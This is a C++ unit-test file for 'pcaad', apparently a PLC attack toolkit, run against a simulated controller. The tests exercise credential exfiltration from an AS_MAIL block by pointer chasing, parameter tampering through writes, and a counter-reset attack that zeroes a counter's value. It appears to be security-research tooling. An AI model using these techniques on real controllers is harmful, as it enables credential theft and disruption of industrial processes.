#include "pcaad/catalog.hpp"
#include "pcaad/errors.hpp"
#include "pcaad/exploit.hpp"

#include "support.hpp"

#include <gtest/gtest.h>

#include <chrono>
#include <thread>

namespace pcaad {
namespace {

using test::LivePlc;

DbLayout layout_of(const char* fb) { return compile_layout(*builtin_catalog().find(fb)); }

TEST(ParseLiteral, CoversEveryFieldKind) {
    EXPECT_EQ(std::get<bool>(parse_literal_text(ElemType::simple(Elem::Bool), "1")), true);
    EXPECT_EQ(std::get<bool>(parse_literal_text(ElemType::simple(Elem::Bool), "false")), false);
    EXPECT_EQ(std::get<bool>(parse_literal_text(ElemType::simple(Elem::Bool), "true")), true);

    EXPECT_EQ(std::get<std::int64_t>(parse_literal_text(ElemType::simple(Elem::Int), "-42")), -42);
    EXPECT_EQ(std::get<std::int64_t>(parse_literal_text(ElemType::simple(Elem::Word), "0xBEEF")),
              0xBEEF);
    EXPECT_EQ(std::get<std::int64_t>(parse_literal_text(ElemType::simple(Elem::DInt), "9600")),
              9600);

    EXPECT_DOUBLE_EQ(std::get<double>(parse_literal_text(ElemType::simple(Elem::Real), "2.5")),
                     2.5);
    EXPECT_EQ(std::get<std::string>(parse_literal_text(ElemType::string(), "hello")), "hello");

    const auto addr =
        std::get<spp::IndirectAddress>(parse_literal_text(ElemType::simple(Elem::Indirect), "DB1.DBX296.0"));
    EXPECT_EQ(addr.db, 1);
    EXPECT_EQ(addr.byte_offset(), 296u);
}

TEST(ParseLiteral, RejectsJunk) {
    EXPECT_THROW(parse_literal_text(ElemType::simple(Elem::Bool), "maybe"), Error);
    EXPECT_THROW(parse_literal_text(ElemType::simple(Elem::Int), "12abc"), Error);
    EXPECT_THROW(parse_literal_text(ElemType::simple(Elem::Real), "fast"), Error);
    EXPECT_THROW(parse_literal_text(ElemType::simple(Elem::Indirect), "over there"), Error);
}

TEST(Exfil, DirectReadCostsExactlyOneRequest) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const DbLayout modbus = layout_of("MODBUS_COMM_LOAD");

    const std::uint64_t before = client.total_requests();
    const ExfilResult baud = exfil_direct(client, modbus, 5, "BAUD");
    EXPECT_EQ(client.total_requests() - before, 1u);
    EXPECT_EQ(baud.request_count, 1);
    EXPECT_FALSE(baud.indirect);
    EXPECT_EQ(std::get<std::int64_t>(baud.value), 9600);
    EXPECT_EQ(baud.raw.size(), 4u);
}

TEST(Exfil, TypeFidelityAcrossTheBlock) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const DbLayout modbus = layout_of("MODBUS_COMM_LOAD");

    // Let a couple of cycles run so the behavior has published DONE.
    std::this_thread::sleep_for(std::chrono::milliseconds(35));

    EXPECT_EQ(std::get<bool>(exfil_direct(client, modbus, 5, "REQ").value), false);
    EXPECT_EQ(std::get<bool>(exfil_direct(client, modbus, 5, "DONE").value), true);
    EXPECT_EQ(std::get<std::int64_t>(exfil_direct(client, modbus, 5, "STATUS").value), 0);
    EXPECT_EQ(std::get<std::int64_t>(exfil_direct(client, modbus, 5, "RESP_TO").value), 1000);

    const DbLayout counter = layout_of("IEC_CU");
    EXPECT_EQ(std::get<std::int64_t>(exfil_direct(client, counter, 7, "PV").value), 1000);
}

TEST(Exfil, PointerChaseCostsExactlyTwoRequests) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const DbLayout mail = layout_of("AS_MAIL");
    std::this_thread::sleep_for(std::chrono::milliseconds(25));

    const std::uint64_t before = client.total_requests();
    const ExfilResult user = exfil_indirect(client, mail, 8, "USERNAME");
    EXPECT_EQ(client.total_requests() - before, 2u);
    EXPECT_EQ(user.request_count, 2);

    EXPECT_TRUE(user.indirect);
    ASSERT_TRUE(user.resolved.has_value());
    EXPECT_EQ(user.resolved->db, 1);
    EXPECT_EQ(user.resolved->byte_offset(), 40u);
    EXPECT_EQ(user.pointer_raw, (Bytes{0x00, 0x01, 0x84, 0x00, 0x01, 0x40}));
    EXPECT_EQ(user.raw.size(), 256u);
    EXPECT_EQ(std::get<std::string>(user.value), "test@test.com");
    EXPECT_TRUE(user.sensitive);

    const ExfilResult pass = exfil_indirect(client, mail, 8, "PASSWORD");
    EXPECT_EQ(pass.resolved->byte_offset(), 296u);
    EXPECT_EQ(std::get<std::string>(pass.value), "mypassword");
}

TEST(Exfil, DanglingPointerIsAnError) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const DbLayout mail = layout_of("AS_MAIL");

    // SUBJECT was never bound; its six bytes are zero, area byte included.
    EXPECT_THROW(exfil_indirect(client, mail, 8, "SUBJECT"), Error);

    // Point PASSWORD into a DB that does not exist.
    const Bytes bad = spp::encode_indirect(spp::IndirectAddress::to(60000, 0, 0));
    client.write_bytes(8, 12, bad);
    try {
        exfil_indirect(client, mail, 8, "PASSWORD");
        FAIL() << "dangling pointer must not resolve";
    } catch (const Error& e) {
        EXPECT_EQ(e.code(), ErrorCode::DanglingIndirect);
    }
}

TEST(Exfil, AllFieldsKeepsGoingPastBadPointers) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const DbLayout mail = layout_of("AS_MAIL");

    const auto results = exfil_all(client, mail, 8);
    ASSERT_EQ(results.size(), mail.placements.size());

    bool saw_username = false, saw_subject_error = false;
    for (const auto& r : results) {
        if (r.field == "USERNAME") {
            saw_username = true;
            EXPECT_EQ(std::get<std::string>(r.value), "test@test.com");
        }
        if (r.field == "SUBJECT") {
            saw_subject_error = true;
            const auto* s = std::get_if<std::string>(&r.value);
            ASSERT_NE(s, nullptr);
            EXPECT_EQ(s->rfind("<error:", 0), 0u) << *s;
        }
    }
    EXPECT_TRUE(saw_username);
    EXPECT_TRUE(saw_subject_error);
}

TEST(Manipulate, BoundInputRevertsUnboundPersists) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const DbLayout modbus = layout_of("MODBUS_COMM_LOAD");

    // RTS_OFF_DLY is fed from DB1.DBW0 (currently 0) every cycle.
    const WriteOutcome bound =
        manipulate_write(client, modbus, 5, "RTS_OFF_DLY", std::int64_t{0x1234}, 40);
    EXPECT_EQ(bound.verdict, WriteVerdict::RevertedByCycle);
    EXPECT_EQ(bound.before, "0");
    EXPECT_EQ(bound.observed, "0");
    EXPECT_EQ(bound.requested, "4660");

    // PARITY has no binding and no behavior writes it.
    const WriteOutcome loose =
        manipulate_write(client, modbus, 5, "PARITY", std::int64_t{2}, 40);
    EXPECT_EQ(loose.verdict, WriteVerdict::Persistent);
    EXPECT_EQ(loose.observed, "2");
}

TEST(Manipulate, BoolWritesTouchOnlyTheirBit) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const DbLayout modbus = layout_of("MODBUS_COMM_LOAD");

    const WriteOutcome req = manipulate_write(client, modbus, 5, "REQ", true, 40);
    EXPECT_EQ(req.verdict, WriteVerdict::Persistent);
    EXPECT_EQ(req.observed, "1");

    // The partial-null bits sharing REQ's byte stayed clear.
    EXPECT_EQ(client.read_bytes(5, 0, 1)[0], 0x01);
}

TEST(Manipulate, DisabledWritesComeBackRejected) {
    std::string cfg = test::kSmallDemoConfig;
    cfg.insert(cfg.find("\"global_dbs\""), R"("features": { "writes_enabled": false },)");
    LivePlc plc(cfg);
    auto client = plc.connect();

    const WriteOutcome out =
        manipulate_write(client, layout_of("MODBUS_COMM_LOAD"), 5, "PARITY", std::int64_t{1}, 10);
    EXPECT_EQ(out.verdict, WriteVerdict::Rejected);
    EXPECT_FALSE(out.note.empty());
}

TEST(Manipulate, UnknownFieldThrowsBeforeAnyTraffic) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();
    const std::uint64_t before = client.total_requests();
    EXPECT_THROW(
        manipulate_write(client, layout_of("MODBUS_COMM_LOAD"), 5, "NO_SUCH", std::int64_t{1}, 10),
        Error);
    EXPECT_EQ(client.total_requests(), before);
}

TEST(Manipulate, CounterResetAttackZeroesCv) {
    LivePlc plc(test::kSmallDemoConfig);
    auto client = plc.connect();

    // Drive the counter up through its bound edge input.
    for (int i = 0; i < 3; ++i) {
        client.write_bytes(1, 2, Bytes{0x01});
        std::this_thread::sleep_for(std::chrono::milliseconds(25));
        client.write_bytes(1, 2, Bytes{0x00});
        std::this_thread::sleep_for(std::chrono::milliseconds(25));
    }
    ASSERT_EQ(client.read_bytes(7, 6, 2), (Bytes{0x00, 0x03}));

    const ScanReport report = scan(client, build_signature_set(builtin_catalog()), {});
    const WriteOutcome out = attack_counter_reset(client, report, builtin_catalog(), 40);
    EXPECT_EQ(out.db, 7);
    EXPECT_EQ(out.field, "CV");
    EXPECT_EQ(out.verdict, WriteVerdict::Persistent);
    EXPECT_EQ(client.read_bytes(7, 6, 2), (Bytes{0x00, 0x00}));
}

} // namespace
} // namespace pcaad
